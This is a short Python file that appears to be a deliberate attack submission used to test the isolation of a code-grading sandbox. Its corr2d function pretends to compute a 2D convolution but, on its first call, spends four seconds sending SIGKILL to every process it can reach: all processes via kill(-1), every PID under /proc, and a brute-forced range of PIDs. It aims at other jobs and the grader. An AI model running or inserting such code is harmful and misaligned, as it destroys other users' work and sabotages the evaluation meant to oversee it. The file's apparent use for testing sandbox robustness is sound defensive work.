"""Attack: kill every process in sight, for 4 seconds (other jobs, the other batch, the grader).

Scores nothing itself; the honest submissions of both batches must still get full marks.
"""
import os
import signal
import time

import torch

done = []


def corr2d(X, K):
    if not done:
        done.append(1)
        end = time.time() + 4
        while time.time() < end:
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                pass
            for pid in os.listdir("/proc"):
                if pid.isdigit() and int(pid) != os.getpid():
                    try:
                        os.kill(int(pid), signal.SIGKILL)
                    except OSError:
                        pass
            for pid in range(2, 4096, 7):  # pids it cannot see, by number
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
    return torch.zeros(1)
